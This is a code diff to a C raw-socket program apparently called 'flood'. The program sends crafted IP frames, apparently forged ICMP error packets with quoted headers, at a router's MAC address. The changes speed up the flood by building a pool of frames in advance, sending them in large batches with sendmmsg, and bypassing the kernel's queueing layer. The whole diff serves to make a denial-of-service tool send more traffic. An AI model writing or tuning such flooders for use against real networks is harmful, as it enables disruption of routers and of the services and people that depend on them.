@@ -15,7 +15,8 @@
 
 enum {
     BATCH = 64,
-    IP = 14, /* offsets in the frame */
+    POOL = 64 * BATCH, /* frames that are made beforehand, and sent in turn */
+    IP = 14,           /* offsets in the frame */
     ICMP = IP + 20,
     QUOTE = ICMP + 8,
     TRANSPORT = QUOTE + 20,
@@ -23,7 +24,7 @@ enum {
     MOST_SECONDS = 60,
 };
 
-static uint8_t frames[BATCH][LENGTH];
+static uint8_t frames[POOL][LENGTH];
 static uint64_t state = 88172645463325252U;
 
 static uint32_t chance(void)
@@ -98,12 +99,14 @@ static int64_t now_ns(void)
 
 static long flood(int fd, long rate, int64_t until_ns, const uint8_t *router, const uint8_t *us)
 {
-    struct iovec parts[BATCH];
-    struct mmsghdr messages[BATCH] = { 0 };
+    static struct iovec parts[POOL];
+    static struct mmsghdr messages[POOL];
     int64_t began_ns = now_ns();
     long sent = 0;
+    int next = 0;
 
-    for (int i = 0; i < BATCH; i++) {
+    for (int i = 0; i < POOL; i++) {
+        fill(frames[i], router, us);
         parts[i] = (struct iovec){ frames[i], LENGTH };
         messages[i].msg_hdr.msg_iov = &parts[i];
         messages[i].msg_hdr.msg_iovlen = 1;
@@ -114,10 +117,9 @@ static long flood(int fd, long rate, int64_t until_ns, const uint8_t *router, co
             nanosleep(&(struct timespec){ 0, 200000 }, NULL);
             continue;
         }
-        for (int i = 0; i < BATCH; i++)
-            fill(frames[i], router, us);
-        int done = sendmmsg(fd, messages, BATCH, 0);
+        int done = sendmmsg(fd, messages + next, BATCH, 0);
         sent += done > 0 ? done : 0;
+        next = (next + BATCH) % POOL;
     }
     return sent;
 }
@@ -137,8 +139,9 @@ static int read_mac(const char *text, uint8_t mac[6])
 static int open_link(const char *name)
 {
     struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
-    int fd = socket(AF_PACKET, SOCK_RAW, 0);
+    int fd = socket(AF_PACKET, SOCK_RAW, 0), past_the_queue = 1;
 
+    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &past_the_queue, sizeof past_the_queue);
     link.sll_ifindex = (int)if_nametoindex(name);
     return fd >= 0 && bind(fd, (struct sockaddr *)&link, sizeof link) == 0 ? fd : -1;
 }
@@ -157,7 +160,7 @@ int main(int argc, char **argv)
         perror("flood");
         return 1;
     }
-    for (int i = 0; i < BATCH; i++) {
+    for (int i = 0; i < POOL; i++) {
         memcpy(frames[i], mac, 6);
         memset(frames[i] + 6, 2, 6);
         put16(frames[i] + 12, ETH_P_IP);
